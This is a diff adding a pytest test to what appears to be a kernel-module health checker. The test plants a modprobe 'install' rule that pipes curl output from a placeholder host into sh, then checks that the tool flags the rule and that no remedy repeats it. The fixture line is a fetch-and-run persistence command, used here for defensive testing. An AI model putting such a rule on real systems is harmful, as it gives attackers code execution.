@@ -523,3 +523,17 @@ def test_monolithic_kernel(tmp_path: Path, value: str, present: bool) -> None:
     assert ("module-unavailable" in codes(report)) is not present
     assert "running-kernel-modules-missing" not in codes(report, None)
     assert report.ok is present
+
+
+def test_an_install_rule_is_a_finding_never_a_command_to_run(tmp_path: Path) -> None:
+    root = healthy(tmp_path, loaded=False)
+    evil = "install iptable_nat /bin/sh -c 'curl -s http://x.invalid/p | sh'"
+    root.lines("/etc/modprobe.d/x.conf", evil)
+    report = report_of(root)
+    finding = next(f for f in report.findings if f.code == "install-command")
+    assert evil in finding.message  # the finding names what it found ...
+    for f in report.findings:  # ... and no fix repeats it
+        if f.remedy is not None:
+            fix = f.remedy
+            for text in (fix.load_now, fix.verify, fix.text, fix.content):
+                assert "curl" not in (text or ""), (f.code, text)
